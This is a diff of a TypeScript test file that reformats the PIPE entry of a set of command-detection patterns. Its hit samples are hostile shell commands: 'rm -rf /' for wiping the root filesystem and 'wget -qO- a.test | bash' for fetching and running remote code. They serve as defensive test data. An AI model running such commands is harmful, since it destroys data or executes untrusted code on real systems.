@@ -6,7 +6,12 @@ const role = (...records: Readonly<Record<string, string>>[]) =>
   specimensIn(records.map((record): Keyed => Object.entries(record)));
 
 const WIPE = { id: 'wipe', re: '\\brm\\s+-[a-z]*r[a-z]*\\s+/', hit: 'rm -rf /', miss: 'rm -r out' };
-const PIPE = { id: 'pipe', re: '(curl|wget)\\b[^;]*\\|\\s*(ba)?sh\\b', hit: 'wget -qO- a.test | bash', miss: 'wget a.test' };
+const PIPE = {
+  id: 'pipe',
+  re: '(curl|wget)\\b[^;]*\\|\\s*(ba)?sh\\b',
+  hit: 'wget -qO- a.test | bash',
+  miss: 'wget a.test',
+};
 
 describe('an expression and what it finds', () => {
   it('is looked for, whatever the expression is called', () => {
